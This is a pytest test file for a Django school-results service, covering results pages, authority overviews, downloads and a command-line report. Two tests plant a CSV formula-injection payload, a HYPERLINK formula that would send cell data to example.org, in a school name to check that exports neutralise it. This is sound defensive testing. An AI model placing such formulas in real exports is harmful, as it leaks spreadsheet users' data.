"""The Results and data pages, the authority overview and its downloads, and the `school` command."""

import csv
import io
import json
import re
from datetime import UTC, datetime
from html import unescape
from unittest import mock

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from accounts.roles import Role
from audit.models import AuditAction, AuditEvent
from core.jinja import gov_date
from evidence.models import Area, AreaObservation, Measure, Observation, Status
from imports.models import ImportRun
from imports.services import import_file
from register.models import School

from .conftest import rows_not_headed_by_their_first_cell, sign_in
from .evidence_helpers import (
    ABSENCE,
    CENSUS_2019,
    CENSUS_2023,
    GIAS_2021,
    GIAS_2022,
    KS2,
    KS4,
    KS4_INFO_2024,
    KS4_INFO_2025,
    KS4_PROVISIONAL,
    LINKS_2021,
    LINKS_2025,
    OFSTED_ALL,
    graded_counts_of,
    ks2_2019_with_guildford_grove,
    text,
)
from .factories import UserFactory, grant


@pytest.fixture
def surrey(db):
    for path in (GIAS_2021, GIAS_2022, LINKS_2021, *KS2.values(), KS4[2019], CENSUS_2023, CENSUS_2019, ABSENCE, OFSTED_ALL):
        run = import_file(path)
        assert run.outcome in ("succeeded", "unchanged"), run.message
    from register.models import LocalAuthority

    officer = UserFactory(email="officer@surrey.example")
    grant(officer, Role.LA_OFFICER, LocalAuthority.objects.get(code=936))
    return officer


def command_json(urn):
    out = io.StringIO()
    call_command("school", str(urn), "--json", stdout=out)
    return json.loads(out.getvalue())


def test_the_school_command_prints_figures_as_the_files_give_them(surrey):
    data = command_json(143373)
    assert data["school"]["name"] == "Guildford Grove Primary School"
    assert data["school"]["history_urns"][:2] == [143373, 132758]
    rwm = data["observations"]["ks2_rwm_expected"]
    assert {year: (f["value"], f["urn"]) for year, f in rwm.items()} == {
        "2017": (44.0, 132758),
        "2018": (57.0, 143373),
        "2019": (56.0, 143373),
    }
    assert data["observations"]["fsm_pct"]["2023"] == {**data["observations"]["fsm_pct"]["2023"], "value": 39.9, "status": "value"}
    assert data["observations"]["absence_overall_pct"]["2019"]["value"] == 4.9


def test_the_school_command_prints_every_figure_held_not_only_the_one_shown(surrey):
    import_file(KS4_PROVISIONAL)
    progress8 = command_json(139948)["observations"]["ks4_progress8"]["2019"]  # Jubilee High School
    assert (progress8["value"], progress8["source"]) == (0.22, "ks4_final")  # the final figure is the one shown
    assert [(f["value"], f["source"], f["urn"]) for f in progress8["also"]] == [(0.23, "ks4_provisional", 139948)]
    assert "also" not in command_json(143373)["observations"]["ks2_rwm_expected"]["2019"]


def test_the_school_command_shows_suppressed_as_suppressed(surrey):
    figure = command_json(138766)["observations"]["ks2_rwm_expected"]["2017"]
    assert (figure["value"], figure["status"]) == (None, "suppressed")


def test_the_school_command_lists_a_report_card_without_an_overall_grade(surrey):
    inspections = command_json(125028)["inspections"]  # Prior Heath Infant School
    card = inspections[0]
    assert (card["framework"], card["started_on"], card["overall"]) == ("report_card", "2026-01-06", "")
    assert card["judgements"]["Curriculum and teaching"] == "Needs attention"
    assert [(i["framework"], i["overall"]) for i in inspections[1:]] == [("graded", "Good"), ("graded", "Outstanding")]


def test_results_page_shows_figures_la_and_england_with_sources(client, surrey):
    sign_in(client, surrey)
    page = client.get(reverse("evidence:school-results", args=[143373]))
    assert page.status_code == 200
    html = page.content.decode()
    assert "Reading, writing and maths: % at the expected standard" in html
    assert "56%" in html and "70%" in html and "65%" in html  # school, Surrey, England in 2018/19
    assert "2018-2019-936-ks2final.csv" in html
    assert "published under URN 132758" in html  # 2016/17 came from the predecessor
    assert "<svg" in html and 'role="img"' in html
    assert "style=" not in html.split("<main", 1)[1]  # the CSP forbids inline styles
    # A gap's row in the latest figures is named once, by its label, with no tag repeating that it is a gap.
    gap = (
        'href="#m-ks2_rwm_expected_gap">Disadvantaged gap: reading, writing and maths at the expected standard (percentage points)</a></th>'
    )
    assert gap in html


@pytest.mark.parametrize(
    ("urn", "area", "overall"),
    [
        (124937, "England (state-funded primary schools)", 4.0),  # Kingswood Primary School
        (125259, "England (state-funded secondary schools)", 5.5),  # Glebelands School
        (125279, "England (state-funded secondary schools)", 5.5),  # all-through: DfE counts it as secondary
        (125452, "England (state-funded special schools)", 10.1),  # Gosden House, a community special school
    ],
)
def test_absence_is_compared_with_england_for_the_schools_phase(surrey, urn, area, overall):
    from evidence.history import history_urns
    from evidence.presenters import school_series

    school = School.objects.get(urn=urn)
    by_code = {s.measure.code: s for s in school_series(school, history_urns(school))}
    absence = by_code["absence_overall_pct"]
    assert (absence.england_label, absence.england[2019].value) == (area, overall)
    # Where England as a whole is given (the 2023 census), that is the comparator, named plainly.
    assert by_code["fsm_pct"].england_label == "England"
    # England's count of primary pupils is kept, but it is no comparator for one school's roll.
    assert not by_code["pupils"].england


def ethnic_table_rows(html: str) -> list[list[str]]:
    """The cells' text, row by row (heading row first), of a page's "Pupils by ethnic group" table."""
    table = html.split('id="h-ethnic-groups"', 1)[1].split("</table>", 1)[0]
    return [
        [re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row, re.S)]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", table, re.S)
    ]


def test_results_page_lists_the_pupils_by_ethnic_group_beside_the_authority_and_england(client, surrey):
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[125037])).content.decode()
    assert "Pupils by ethnic group, 2022/23" in html
    rows = ethnic_table_rows(html)
    surrey_white = AreaObservation.objects.get(measure__code="ethnicity_white_pct", year=2023, area=Area.LA, la_code=936).value
    assert rows[0] == ["Ethnic group", "School", "Surrey", "England"]
    assert rows[1][:3] == ["White", "74.6%", f"{surrey_white}%"]  # 191 of 256 pupils
    assert rows[2][:2] == ["of whom white British", "66.4%"] and rows[4][:2] == ["Asian", "14.1%"]
    assert [row[0] for row in rows[1:]] == [
        "White",
        "of whom white British",
        "Mixed",
        "Asian",
        "Black",
        "Chinese",
        "Any other ethnic group",
        "Not known (unclassified)",
    ]
    assert "2022-2023-school-census-spc-school-level.csv.gz" in html.split('id="h-ethnic-groups"', 1)[1]


def test_each_figure_in_a_results_pages_tables_is_read_with_the_year_measure_group_or_area_of_its_row(client, surrey):
    """WCAG 1.3.1: a screen reader reads a cell with its row's header and its column's. A figure in a table of every
    year, of the latest figures, of ethnic groups or of report-card areas was read with its column's alone ("School,
    58%"): the year, measure, group or area its row is for was a plain cell."""
    sign_in(client, surrey)
    for path in (
        reverse("evidence:school-results", args=[125037]),
        reverse("evidence:authority-results", args=[936]),
        reverse("evidence:authority-statistics", args=[936]),
    ):
        html = client.get(path).content.decode()
        assert html.count("<tbody") > 5, path
        assert not rows_not_headed_by_their_first_cell(html), path


def test_authority_overview_lists_its_pupils_by_ethnic_group_beside_england(client, surrey):
    sign_in(client, surrey)
    html = client.get(reverse("evidence:authority-results", args=[936])).content.decode()
    rows = ethnic_table_rows(html)
    asian = {
        la_code: AreaObservation.objects.get(measure__code="ethnicity_asian_pct", year=2023, la_code=la_code).value for la_code in (0, 936)
    }
    assert rows[0] == ["Ethnic group", "Surrey", "England"]
    assert rows[4] == ["Asian", f"{asian[936]}%", f"{asian[0]}%"]
    assert "calculated here from the schools&#39; counts" in html.split('id="h-ethnic-groups"', 1)[1].split("</section>", 1)[0]
    # The downloads give the same figures, the authority's then England's.
    downloaded = {
        r["School"]: r["Value"]
        for r in csv_rows(client, 936)
        if r["Measure code"] == "ethnicity_asian_pct" and r["Academic year"] == "2022/23"
    }
    assert downloaded == {"Surrey": f"{asian[936]}", "England (state-funded schools)": f"{asian[0]}"}


def test_a_downloads_file_name_is_the_authoritys_name_in_plain_letters_and_the_day_it_was_downloaded(client, surrey):
    """The day in the UK (1 July, just after midnight, is still 30 June by UTC): files downloaded on different days do not
    overwrite each other, whether the signed-in results or the published statistics, the figures or the notes."""
    from register.models import LocalAuthority

    LocalAuthority.objects.filter(code=936).update(name="Bristol, City of")
    sign_in(client, surrey)
    just_after_midnight = datetime(2026, 6, 30, 23, 30, tzinfo=UTC)
    with mock.patch("django.utils.timezone.now", return_value=just_after_midnight):
        for fmt in ("csv", "xlsx"):
            response = client.get(reverse(f"evidence:authority-results-{fmt}", args=[936]))
            assert response["Content-Disposition"] == f'attachment; filename="bristol-city-of-results-2026-07-01.{fmt}"'
        for name, file_name in (
            ("authority-results-notes-csv", "bristol-city-of-results-notes-2026-07-01.csv"),
            ("authority-results-outcomes-csv", "bristol-city-of-inspection-outcomes-2026-07-01.csv"),
            ("authority-statistics-csv", "bristol-city-of-statistics-2026-07-01.csv"),
            ("authority-statistics-xlsx", "bristol-city-of-statistics-2026-07-01.xlsx"),
            ("authority-statistics-notes-csv", "bristol-city-of-statistics-notes-2026-07-01.csv"),
            ("authority-statistics-outcomes-csv", "bristol-city-of-inspection-outcomes-2026-07-01.csv"),
        ):
            response = client.get(reverse(f"evidence:{name}", args=[936]))
            assert response["Content-Disposition"] == f'attachment; filename="{file_name}"', name


def test_downloads_give_englands_figures_only_beside_the_authoritys(client, surrey):
    """The overview shows a measure only where the authority has figures for it; England's for any other is not its."""
    fsm = AreaObservation.objects.get(area=Area.ENGLAND, measure__code="fsm_pct", year=2023)
    surreys = AreaObservation.objects.filter(area=Area.LA, la_code=936).values("measure")
    other = Measure.objects.filter(key=True).exclude(pk__in=surreys).first()
    AreaObservation.objects.create(
        area=Area.ENGLAND, la_code=0, measure=other, year=2023, value=39.3, source=fsm.source, import_run=fsm.import_run
    )
    sign_in(client, surrey)
    rows = [r for r in csv_rows(client, 936) if r["URN"] == ""]
    assert other.code not in {r["Measure code"] for r in rows}
    assert {r["Measure code"] for r in rows if r["School"] == "Surrey"} == {
        r["Measure code"] for r in rows if r["School"].startswith("England")
    }


def test_a_special_schools_results_say_the_figures_beside_them_are_all_schools(client, surrey):
    from evidence.history import history_urns
    from evidence.presenters import SPECIAL_NOTE, school_series

    gosden = School.objects.get(urn=125452)  # Gosden House School, a community special school
    by_code = {s.measure.code: s for s in school_series(gosden, history_urns(gosden))}
    assert by_code["ks4_attainment8"].notes[0] == SPECIAL_NOTE
    assert SPECIAL_NOTE not in by_code["absence_overall_pct"].notes  # set beside England's special schools
    mainstream = School.objects.get(urn=125271)
    assert all(SPECIAL_NOTE not in s.notes for s in school_series(mainstream, history_urns(mainstream)))
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[125452])).content.decode()
    said = "This is a special school: the authority&#39;s and England&#39;s figures beside it are for all"
    # Every key stage 4 measure is set beside all schools' figures: said once, above the section's figures, not below
    # each measure's table. The Pupils section's measures differ (some are set beside special schools'): each says its own.
    ks4 = html[html.index('<h2 class="govuk-heading-l">Key stage 4</h2>') :]
    ks4 = ks4[: ks4.index('<h2 class="govuk-heading-l">', 1)]
    assert ks4.count(said) == 1
    assert "govuk-inset-text" in ks4[: ks4.index(said)] and ks4.index(said) < ks4.index("Key stage 4: latest figures")
    pupils = html[html.index('<h2 class="govuk-heading-l">Pupils</h2>') : html.index('<h2 class="govuk-heading-l">Attendance</h2>')]
    assert pupils.count(said) == 2 and "govuk-inset-text" not in pupils


def test_results_page_names_the_phase_of_englands_absence_figure(client, surrey):
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[124937])).content.decode()
    assert "4.0% (state-funded primary schools)" in html  # the latest-figures table
    assert "England (state-funded primary schools)" in html  # the year table's heading and the chart
    # No authority figure is given or can be calculated, and the table says why rather than leaving "no data" unexplained.
    absence = html.split('aria-labelledby="h-absence_overall_pct"', 1)[1].split("</section>", 1)[0]
    assert "the authority&#39;s cannot be calculated from it" in absence


def test_results_page_says_which_figures_a_corrected_file_changed_and_from_what(client, surrey, tmp_path):
    """A figure replaced by a corrected file says so beside its source, in the latest figures and the year's row."""
    corrected = import_file(ks2_2019_with_guildford_grove(tmp_path / "2018-2019-936-ks2final.csv", "58%"))
    sign_in(client, surrey)
    words = text(client.get(reverse("evidence:school-results", args=[143373])))
    # To an officer, who cannot open the Imports page, the import is named by its file and the day it was imported.
    note = f"2018-2019-936-ks2final.csv (imported {gov_date(corrected.started_at)}); that import corrected this figure from 56%"
    assert words.count(note) == 2  # the latest figures, and 2018/19's row of the measure's every year
    assert "corrected this figure from" not in words.replace(note, "")  # no other figure was corrected
    # Corrected again: from what the first correction said, by the import that gave the figure shown.
    again = import_file(ks2_2019_with_guildford_grove(tmp_path / "2018-2019-936-ks2final.csv", "61%"))
    words = text(client.get(reverse("evidence:school-results", args=[143373])))
    assert words.count(f"(imported {gov_date(again.started_at)}); that import corrected this figure from 58%") == 2
    assert "corrected this figure from 56%" not in words


def test_results_page_says_a_corrected_file_changed_the_number_of_pupils_and_from_what(client, surrey, tmp_path):
    """Guildford Grove Primary's (143373) figure is the same in a corrected file that gives another number of eligible
    pupils (TELIG): the note says the number was corrected, from what, in the words the import's own list uses."""
    rows = list(csv.reader(io.StringIO(KS2[2019].read_text(encoding="utf-8-sig"))))
    column, row = rows[0].index("TELIG"), next(row for row in rows if row[rows[0].index("URN")] == "143373")
    was = int(row[column])
    row[column] = str(was + 1)
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    corrected = import_file(out.getvalue().encode(), file_name=KS2[2019].name)
    assert corrected.outcome == "succeeded", corrected.message
    sign_in(client, surrey)
    words = text(client.get(reverse("evidence:school-results", args=[143373])))
    assert f"(imported {gov_date(corrected.started_at)}); that import corrected the number of pupils, which was {was}" in words


def test_results_page_says_which_corrected_file_removed_a_figure_and_what_it_was(client, surrey, tmp_path):
    """A figure a corrected file leaves blank is removed: the year's row says which import removed it, not just 'no data'."""
    corrected = import_file(ks2_2019_with_guildford_grove(tmp_path / "2018-2019-936-ks2final.csv", ""))
    sign_in(client, surrey)
    page = client.get(reverse("evidence:school-results", args=[143373]))
    words, day = text(page), gov_date(corrected.started_at)
    assert words.count(f"2018-2019-936-ks2final.csv (imported {day}), a corrected file, no longer gives the figure: it was 56%.") == 1
    # The file's name isolated: written right to left, it would reorder the words around it.
    assert f"<bdi>2018-2019-936-ks2final.csv</bdi> (imported {day}), a corrected file" in page.content.decode()
    # 2018/19 was the school's latest year: the latest figures show 2017/18's and say why 2018/19 has none.
    summary = words.split("Key stage 2: latest figures", 1)[1].split("Reading, writing and maths: % at the expected standard", 2)[1]
    assert summary.startswith(f" 2017/18 57% 2018/19: no longer given by a corrected file (imported {day}); it was 56% 70%")


def test_a_measure_whose_only_figure_a_corrected_file_removed_is_still_shown_saying_so(client, surrey, tmp_path):
    """A school with one year of a measure (a new school) whose figure a corrected file withdraws keeps the measure on
    its page, with the year, what the figure was and which import removed it, rather than losing it without a word."""
    from evidence.history import history_urns
    from evidence.models import Observation

    rwm = Measure.objects.get(code="ks2_rwm_expected")
    urns = history_urns(School.objects.get(urn=143373))  # as if it, and the school it replaced, had no earlier figures
    Observation.objects.filter(school__urn__in=urns, measure=rwm, year__lt=2019).delete()
    corrected = import_file(ks2_2019_with_guildford_grove(tmp_path / "2018-2019-936-ks2final.csv", ""))
    sign_in(client, surrey)
    words = text(client.get(reverse("evidence:school-results", args=[143373])))
    summary = words.split("Key stage 2: latest figures", 1)[1].split(f"{rwm.label} ", 2)[1]
    day = gov_date(corrected.started_at)
    assert summary.startswith(f"2018/19 no data 2018/19: no longer given by a corrected file (imported {day}); it was 56% 70%")
    every_year = words.split(f"{rwm.label}: every year", 1)[1]
    assert f"(imported {day}), a corrected file, no longer gives the figure: it was 56%." in every_year


def test_only_a_reader_who_can_open_the_imports_page_is_told_an_imports_number(client, surrey, tmp_path):
    """The import that gave a figure, or the corrected file that removed one, is named by its number, a link to its page,
    to an LA administrator, who can open it on the Imports page; to an officer, a headteacher or a reader signed out, for
    whom the number leads nowhere, by its file and the day it was imported."""
    from register.models import LocalAuthority

    corrected = import_file(ks2_2019_with_guildford_grove(tmp_path / "2018-2019-936-ks2final.csv", ""))
    earlier = ImportRun.objects.get(file_name="2017-2018-936-ks2final.csv")
    admin, head = UserFactory(email="admin@surrey.example"), UserFactory(email="head@guildford-grove.example")
    grant(admin, Role.LA_ADMIN, LocalAuthority.objects.get(code=936))
    grant(head, Role.HEADTEACHER, School.objects.get(urn=143373))

    def numbered(run) -> str:
        return f'(<a class="govuk-link" href="{reverse("imports:detail", args=[run.pk])}">import {run.pk}</a>)'

    school, authority = reverse("evidence:school-results", args=[143373]), reverse("evidence:authority-results", args=[936])
    statistics = reverse("evidence:authority-statistics", args=[936])
    sign_in(client, admin)
    for page in (school, authority, statistics):
        assert f"file <bdi>2017-2018-936-ks2final.csv</bdi> {numbered(earlier)}" in client.get(page).content.decode()
    html = client.get(school).content.decode()
    assert f"<bdi>2018-2019-936-ks2final.csv</bdi> {numbered(corrected)}, a corrected file, no longer gives the figure" in html
    assert f"no longer given by a corrected file (import {corrected.pk}); it was 56%" in html
    for reader, pages in ((surrey, (school, authority)), (head, (school,)), (None, (statistics,))):
        client.logout()
        if reader:
            sign_in(client, reader)
        for page in pages:
            html = client.get(page).content.decode()
            assert f"file <bdi>2017-2018-936-ks2final.csv</bdi> (imported {gov_date(earlier.started_at)})" in html, (reader, page)
            assert "(import " not in html and reverse("imports:detail", args=[earlier.pk]) not in html, (reader, page)
        if page == school:
            assert f"<bdi>2018-2019-936-ks2final.csv</bdi> (imported {gov_date(corrected.started_at)}), a corrected file" in html


def test_results_page_tabs_have_addresses_that_name_them(client, surrey):
    """A link to a tab says which tab it opens (#key-stage-2), whatever the tabs a school's page has before it."""
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[143373])).content.decode()
    tabs = html.split('class="govuk-tabs__list"', 1)[1].split("</ul>", 1)[0]
    assert re.findall(r'href="#([^"]+)"', tabs) == ["pupils", "attendance", "key-stage-2", "inspections"]


def test_results_page_says_suppressed_never_zero(client, surrey):
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[138766])).content.decode()
    assert "suppressed" in html


def test_results_page_shows_the_report_card_in_ofsteds_words(client, surrey):
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[125037])).content.decode()
    assert re.search(r">\s*Report card\s*<", html) and "Report cards (from November 2025) have no overall grade" in html
    assert "Curriculum and teaching: Needs attention" in html
    assert "Safeguarding standards: Met" in html


def test_results_page_of_a_school_outside_the_users_authorities_is_not_found(client, surrey):
    from register.models import LocalAuthority

    hampshire_officer = UserFactory(email="officer@hampshire.example")
    grant(hampshire_officer, Role.LA_OFFICER, LocalAuthority.objects.create(code=850, name="Hampshire"))
    sign_in(client, hampshire_officer)
    assert client.get(reverse("evidence:school-results", args=[143373])).status_code == 404


def test_authority_overview_compares_with_england_and_counts_outcomes(client, surrey):
    sign_in(client, surrey)
    page = client.get(reverse("evidence:authority-results", args=[936]))
    assert page.status_code == 200
    html = page.content.decode()
    assert "Inspection outcomes" in html and "Good" in html
    assert "Needs attention" in html
    assert "70%" in html and "65%" in html  # Surrey and England, KS2 RWM 2018/19
    # Each year's source is named as on a school's page: the file, its year and when it was imported.
    run = ImportRun.objects.filter(file_name="2018-2019-936-ks2final.csv").latest("id")
    source = (
        f"Key stage 2 performance tables (final), 2018/19; file <bdi>2018-2019-936-ks2final.csv</bdi> (imported {gov_date(run.started_at)})"
    )
    assert source in html
    # A chart names England where it draws England's line: for a gap against national other pupils, England's own
    # (its disadvantaged pupils against its others), calculated here since DfE's table prints 0 for it.
    assert ">Reading, writing and maths: % at the expected standard, by year: Surrey and England</title>" in html
    gap = "Disadvantaged gap: reading, writing and maths at the expected standard (percentage points)"
    assert f">{gap}, by year: Surrey and England</title>" in html
    assert "England&#39;s figure for 2016/17 to 2018/19 is calculated here from the same row of DfE&#39;s table" in html


def test_anyone_may_read_an_authoritys_published_statistics_and_no_schools_own(client, surrey):
    """MISSION.md's public sees published aggregate statistics: the authority's and England's figures and its schools
    counted by outcome, as the signed-in page gives them, without a school's own figures, a link to one, or a download of them."""
    index = client.get(reverse("evidence:statistics"))
    assert index.status_code == 200 and reverse("evidence:authority-statistics", args=[936]) in index.content.decode()
    response = client.get(reverse("evidence:authority-statistics", args=[936]))  # signed out
    assert response.status_code == 200
    public = response.content.decode()
    sign_in(client, surrey)
    signed_in = client.get(reverse("evidence:authority-results", args=[936])).content.decode()
    for code in ("ks2_rwm_expected", "ks2_rwm_expected_gap", "ks4_progress8"):
        assert table_rows(section(public, code)) == table_rows(section(signed_in, code)), code
    outcomes = "Open state-funded schools by their latest graded inspection"
    assert table_rows(public[public.index(outcomes) - 200 :]) == table_rows(signed_in[signed_in.index(outcomes) - 200 :])
    assert "70%" in section(public, "ks2_rwm_expected") and "65%" in section(public, "ks2_rwm_expected")
    # Nothing of any one school: no link to a school's pages, no download of every school's figures.
    assert "/schools/" not in public and "results.csv" not in public and "results.xlsx" not in public
    assert 'href="/schools/' in signed_in and "results.csv" in signed_in
    assert client.get(reverse("evidence:authority-statistics", args=[999])).status_code == 404


def test_authority_overview_says_which_measures_its_schools_have_but_it_has_no_figure_for(client, surrey):
    """Absence is published school by school and for England, never for an authority: the overview says so rather than
    leaving attendance out without a word."""
    from evidence.catalogue import ABSENCE_LA

    sign_in(client, surrey)
    words = text(client.get(reverse("evidence:authority-results", args=[936])))
    listed = words.split("Measures with no figure for Surrey", 1)[1]
    assert f"Overall absence (% of sessions). {ABSENCE_LA}".replace("'", "&#39;") in listed
    assert "Reading, writing and maths: % at the expected standard" not in listed  # Surrey has its own figure


def test_authority_outcomes_count_the_state_funded_schools_ofsted_inspects(client, surrey):
    from register.models import School, SchoolStatus
    from register.presenters import state_funded

    sign_in(client, surrey)
    html = client.get(reverse("evidence:authority-results", args=[936])).content.decode()
    surrey_open = School.objects.filter(la__code=936).exclude(status=SchoolStatus.CLOSED)
    inspected = surrey_open.filter(state_funded()).count()
    assert 0 < inspected < surrey_open.count()  # independent schools and children's centres are left out
    assert f"{surrey_open.count():,} open establishments, of which {inspected:,} are state-funded schools" in html
    table = html.split("Open state-funded schools by their latest graded inspection", 1)[1].split("</table>", 1)[0]
    rows = [re.findall(r'govuk-table__cell--numeric">\s*([\d,]*)\s*<', row) for row in table.split("<tbody", 1)[1].split("</tr>")]
    schools, theirs = [int(cells[0].replace(",", "")) for cells in rows if cells], [int(cells[1] or 0) for cells in rows if cells]
    assert sum(schools) == inspected
    # The academies not yet inspected in their current form, counted by the schools they replaced, are said to be.
    assert 0 < sum(theirs) < inspected


def test_authority_downloads_are_csv_and_xlsx_and_audited(client, surrey):
    assert import_file(KS4_PROVISIONAL, la_codes=[936]).outcome == "succeeded"
    sign_in(client, surrey)
    response = client.get(reverse("evidence:authority-results-csv", args=[936]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["URN"] == "143373" and r["Measure code"] == "ks2_rwm_expected" and r["Academic year"] == "2018/19")
    assert (row["Value"], row["Status"], row["File"]) == ("56", "", "2018-2019-936-ks2final.csv")  # as published: whole per cents
    assert (row["LAESTAB"], row["Phase"]) == ("9362963", "Primary")  # to filter the schools by
    pupils = next(r for r in rows if r["URN"] == "143373" and r["Measure code"] == "pupils")
    assert pupils["Value"].isdigit()  # a headcount, not '412.0'
    # What each figure counts in, and how many pupils it is about.
    units = {r["Measure code"]: r["Unit"] for r in rows if r["URN"] == "143373"}
    assert (units["ks2_rwm_expected"], units["ks2_rwm_expected_gap"], units["pupils"]) == (
        "per cent",
        "percentage points",
        "number of pupils",
    )
    assert units["ks2_reading_progress"] == "score" and row["Pupils counted"].isdigit()
    # The overview's own figures come first, with no URN: the authority's, then England's.
    areas = {(r["School"], r["Academic year"]): r["Value"] for r in rows if r["URN"] == "" and r["Measure code"] == "ks2_rwm_expected"}
    assert (areas["Surrey", "2018/19"], areas["England (state-funded schools)", "2018/19"]) == ("70", "65")
    assert rows[0]["URN"] == "" and rows[-1]["URN"] != ""
    sen = next(r for r in rows if r["URN"] == "" and r["Measure code"] == "sen_support_pct")
    assert (sen["School"], sen["Source"]) == (
        "Surrey",
        "School census summary (performance tables), calculated here from the schools' counts",
    )
    # England's own gap, which DfE's table prints as 0, is calculated from its row, and the download says so.
    gap = next(
        r
        for r in rows
        if r["URN"] == ""
        and r["School"].startswith("England")
        and r["Measure code"] == "ks2_rwm_expected_gap"
        and r["Academic year"] == "2018/19"
    )
    assert (gap["Value"], gap["Status"], gap["Source"]) == (
        "-20",
        "",
        "Key stage 2 performance tables (final), calculated here: England's disadvantaged pupils' figure minus its other pupils'",
    )
    suppressed = next(
        r for r in rows if r["URN"] == "138766" and r["Measure code"] == "ks2_rwm_expected" and r["Academic year"] == "2016/17"
    )
    assert (suppressed["Value"], suppressed["Status"]) == ("", "suppressed")
    # Surrey's Attainment 8 for 2018/19 comes in the final and the provisional tables: the final one is the page's.
    both = {
        r["Source"]: r["Shown on pages"]
        for r in rows
        if r["URN"] == "" and r["School"] == "Surrey" and r["Measure code"] == "ks4_attainment8" and r["Academic year"] == "2018/19"
    }
    assert both == {
        "Key stage 4 performance tables (final)": "yes",
        "Key stage 4 performance tables (provisional)": "no: a more final release is shown",
    }
    assert {r["Shown on pages"] for r in rows if r["Source"].startswith("Key stage 2")} == {"yes"}
    xlsx = client.get(reverse("evidence:authority-results-xlsx", args=[936]))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.max_row == len(rows) + 1
    # Ready to read: the header stays in view and has filters, and each figure shows its published places.
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", f"A1:N{len(rows) + 1}")
    a8 = next(row for row in sheet.iter_rows(min_row=2) if row[4].value == "ks4_attainment8" and isinstance(row[8].value, float))
    assert a8[8].number_format == "0.0"
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, object_type="register.localauthority").count() == 2


def test_results_page_query_count_does_not_grow_with_history(client, surrey, django_assert_max_num_queries):
    sign_in(client, surrey)
    School.objects.get(urn=143373)
    with django_assert_max_num_queries(40):
        client.get(reverse("evidence:school-results", args=[143373]))


@pytest.mark.parametrize("start", ["\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_csv_download_keeps_a_name_after_a_line_end_or_a_full_width_sign_as_text(client, surrey, start):
    """A formula after a line end, or begun with a full-width sign (＝, ＋, －, ＠), runs in some spreadsheet programs and
    languages as one begun with = does: the CSV keeps such a name as text, with the apostrophe before it."""
    formula = start + 'HYPERLINK("https://example.org/?"&A3,"Open")'
    School.objects.filter(urn=143373).update(name=formula)
    sign_in(client, surrey)
    text = client.get(reverse("evidence:authority-results-csv", args=[936])).content.decode("utf-8-sig")
    assert {row["School"] for row in csv.DictReader(io.StringIO(text)) if row["URN"] == "143373"} == {"'" + formula}


def test_downloads_keep_a_name_that_looks_like_a_formula_as_text(client, surrey):
    """School and file names come from imported files: opened in a spreadsheet, they must not run."""
    formula = '=HYPERLINK("https://example.org/?"&A3,"Open")'
    School.objects.filter(urn=143373).update(name=formula)
    sign_in(client, surrey)
    text = client.get(reverse("evidence:authority-results-csv", args=[936])).content.decode("utf-8-sig")
    names = {row["School"] for row in csv.DictReader(io.StringIO(text)) if row["URN"] == "143373"}
    assert names == {"'" + formula}
    sheet = load_workbook(io.BytesIO(client.get(reverse("evidence:authority-results-xlsx", args=[936])).content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formula in {cell.value for cell in cells}  # kept as it is, as text
    assert any(cell.data_type == "n" and (cell.value or 0) < 0 for cell in cells)  # negative figures stay numbers


def progress8_gap_row(client, urn) -> str:
    """The Progress 8 gap's row of the school's "Key stage 4: latest figures" table, as HTML."""
    html = client.get(reverse("evidence:school-results", args=[urn])).content.decode()
    summary = html[html.index("Key stage 4: latest figures") :]
    row = summary[summary.index('href="#m-ks4_progress8_gap"') :]
    return row[: row.index("</tr>")]


def test_latest_figures_show_the_latest_year_with_a_figure_and_say_why_later_years_have_none(client, surrey):
    """Glyn School (136534): Progress 8 was not published for 2024/25, so its latest gap is 2023/24's −0.48; 2024/25's
    reads 'not published', as the year table says, not 'not applicable' as the file's 'z' would have it."""
    for path in (KS4_INFO_2024, KS4_INFO_2025):
        assert import_file(path).outcome == "succeeded"
    sign_in(client, surrey)
    row = progress8_gap_row(client, 136534)
    assert "2023/24" in row and "-0.48" in row.replace("−", "-")
    assert "2024/25: not published" in row and "not applicable" not in row
    assert command_json(136534)["observations"]["ks4_progress8_gap"]["2025"]["status"] == "not published"
    # Each figure names its academic year: the key is the year it ends in.
    assert command_json(136534)["observations"]["ks4_progress8_gap"]["2025"]["academic_year"] == "2024/25"


def test_a_school_page_shows_the_attainment8_gap_beside_progress8s(client, surrey):
    """George Abbot School (136906): DfE's DIFFN_ATT8 is -17.4 for 2018/19, -21.2 for 2023/24 and -12.0 for 2024/25, the
    latest disadvantaged gap published, as no Progress 8 was for that year; the page and the authority's download give it."""
    for path in (KS4_INFO_2024, KS4_INFO_2025):
        assert import_file(path).outcome == "succeeded"
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[136906])).content.decode().replace("−", "-")
    row = summary_row(html, "ks4_attainment8_gap")
    assert "Disadvantaged gap: Attainment 8" in row and "2024/25" in row and "-12.0" in row
    years = {cells[0]: cells[1] for cells in table_rows(section(html, "ks4_attainment8_gap"))[1:]}
    assert years["2018/19"] == "-17.4" and years["2023/24"] == "-21.2"
    assert {row["Measure"] for row in csv_rows(client, 936)} >= {"Disadvantaged gap: Attainment 8"}


def test_a_year_whose_file_gives_no_number_of_pupils_says_so_in_its_pupils_cell_and_its_notes(client, surrey):
    """George Abbot School (136906): 2024/25's provisional file gives its Attainment 8 gap (-12.0) but, unlike 2018/19's
    and 2023/24's, no count of disadvantaged pupils: the cell says so, where it was left blank as a year with no figure is."""
